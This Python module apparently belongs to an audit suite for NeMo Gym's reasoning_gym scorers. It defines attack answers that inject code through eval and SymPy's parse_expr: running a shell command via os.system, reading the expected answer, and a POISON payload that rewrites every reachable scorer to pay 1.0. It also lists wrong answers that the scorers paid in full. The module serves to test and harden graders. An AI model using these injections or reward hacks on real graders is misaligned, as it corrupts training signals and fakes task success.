"""reasoning_gym (NeMo Gym's rows: ``question``, ``answer``, ``metadata.source_dataset``): several of the
package's scorers hand the answer to ``eval`` or SymPy's ``parse_expr``, so an answer can be a program.
These answers try to run code, to read the expected answer, and to rewrite the scorer for everyone after; and
answers the package's own scorers paid 1.0 though wrong (``resources_servers/reasoning_gym/corrections.py``: round three's
by hand, round four's puzzle24 from ``scripts/reasoning_gym_sweep.py``)."""

from __future__ import annotations

import json
from functools import cache
from pathlib import Path
from typing import Any

from gym_bridge.audit.attacks import Attack, AuditOptions, answer, marker_path

__all__ = ["attacks"]

ROWS = Path(__file__).with_name("reasoning_gym_rows.jsonl")
"""One generated row per family (reasoning-gym 0.1.19, seed 7; game_of_life_halting, complex_arithmetic,
coin_flip and arc_agi: 0.1.25, seed 7)."""
EVAL_FAMILIES = ("spiral_matrix", "string_insertion", "binary_matrix", "n_queens")
PARSE_EXPR_FAMILIES = ("countdown", "puzzle24", "polynomial_multiplication", "simple_integration",
                       "intermediate_integration")  # fmt: skip

PAYS = "(lambda *a, **k: 1.0 if len(a) + len(k) >= 2 else (lambda *b, **c: 1.0))"
"""Called like a scorer (answer, entry): 1.0; called like a scorer factory (a family name): such a scorer."""
POISON = (
    f"[setattr(m, n, {PAYS}) for m in list(__import__('sys').modules.values())"
    " if str(getattr(m, '__name__', '')).startswith(('resources_servers', 'reasoning_gym', 'gym_bridge'))"
    " for n in list(vars(m)) if 'scor' in n.lower() and callable(vars(m)[n])]"
    f" and [setattr(v[0] if isinstance(v, tuple) else v, 'score_answer', {PAYS})"
    " for v in __import__('reasoning_gym.factory', fromlist=['DATASETS']).DATASETS.values()] and []"
)
"""Make every scoring function (and scorer factory) the server can reach pay 1.0, from inside the scorer's ``eval``."""


@cache
def rows() -> dict[str, dict[str, Any]]:
    with ROWS.open() as f:
        return {r["metadata"]["source_dataset"]: r for r in map(json.loads, f)}


PARTIAL_CREDIT = 0.1
"""The most the package's scorers pay a well-formed wrong answer (0.01 in countdown and puzzle24, 0.1 in
spiral_matrix): an attack is a finding above it."""


def _tagged(text: str) -> list[list[dict[str, Any]]]:
    return [answer(f"<answer>{text}</answer>")]


def attacks(options: AuditOptions) -> list[Attack]:
    by_family = rows()
    plain = by_family["basic_arithmetic"]
    honest = Attack(
        "honest_after",
        "escape/leak",
        "the honest answer after the attack",
        plain,
        _tagged(plain["answer"]),
        max_reward=1.0,
        min_reward=1.0,
        control=True,
    )
    banana = Attack("wrong_after", "escape/leak", "a wrong answer after the attack", plain, _tagged("banana"))
    found = [
        Attack("control", "wrong-reward", "the honest answer", plain, _tagged(plain["answer"]), max_reward=1.0,
               min_reward=1.0, control=True),
        Attack("spiral_matrix_control", "wrong-reward", "the honest answer to an eval-scored family",
               by_family["spiral_matrix"], _tagged(by_family["spiral_matrix"]["answer"]), max_reward=1.0, min_reward=1.0, control=True),
        Attack("read_expected_answer", "escape/leak", "an answer that evaluates to the expected one",
               by_family["spiral_matrix"], _tagged("entry['answer'].split()"), max_reward=PARTIAL_CREDIT),
    ]  # fmt: skip
    if "game_of_life_halting" in by_family:
        halting = by_family["game_of_life_halting"]
        wrong = "False" if halting["answer"] == "True" else "True"
        found.append(Attack("game_of_life_wrong_verdict", "wrong-reward", "the opposite True/False (the package paid any "
                            "non-empty answer)", halting, _tagged(wrong)))  # fmt: skip
        found.append(Attack("game_of_life_no_verdict", "wrong-reward", "an answer that is no verdict at all", halting,
                            _tagged("I cannot tell")))  # fmt: skip
    if "coin_flip" in by_family:
        found.append(Attack("coin_flip_zero", "wrong-reward", "the constant '0' for a probability (any prefix of the "
                            "expected one was paid 1.0)", by_family["coin_flip"], _tagged("0"), max_reward=0.5))  # fmt: skip
    if "complex_arithmetic" in by_family:
        found.append(Attack("complex_nan", "wrong-reward", "'nan' for a complex number (the package paid it 1.0)",
                            by_family["complex_arithmetic"], _tagged("nan")))  # fmt: skip
    if "puzzle24" in by_family:
        puzzle = by_family["puzzle24"]
        constant = "1*2*3*4" if sorted(puzzle["metadata"]["numbers"]) != [1, 2, 3, 4] else "4*6*1*1"
        found.append(Attack("puzzle24_constant", "wrong-reward", f"the constant {constant!r}: 24, but not from the "
                            "task's numbers (the package paid it 1.0 on every task)", puzzle, _tagged(constant),
                            max_reward=PARTIAL_CREDIT))  # fmt: skip
    if "arc_agi" in by_family:
        arc = by_family["arc_agi"]
        found.append(Attack("arc_agi_right_grid", "wrong-reward", "the expected grid itself, which must pay 1.0 (the "
                            "package compared it with the row's JSON lists and paid 0.05)", arc, _tagged(arc["answer"]),
                            max_reward=1.0, min_reward=1.0))  # fmt: skip
    for family in EVAL_FAMILIES + PARSE_EXPR_FAMILIES:
        if family not in by_family:
            continue
        marker = marker_path(family)
        found.append(
            Attack(f"run_code_{family}", "escape/leak", f"run a shell command from the {family} scorer",
                   by_family[family], _tagged(f"__import__('os').system('touch {marker}') or []"), markers=(marker,),
                   max_reward=PARTIAL_CREDIT)
        )  # fmt: skip
    found.append(
        Attack("rewrite_the_scorer", "escape/leak", "replace every scorer in the server with one paying 1.0",
               by_family["spiral_matrix"], _tagged(POISON), max_reward=PARTIAL_CREDIT, then=(banana, honest))
    )  # fmt: skip
    found.append(
        Attack("rewrite_via_parse_expr", "escape/leak", "the same through SymPy's parse_expr",
               by_family["countdown"], _tagged(POISON.replace(" and []", " and 0")), max_reward=PARTIAL_CREDIT,
               then=(banana, honest))
    )  # fmt: skip
    return found
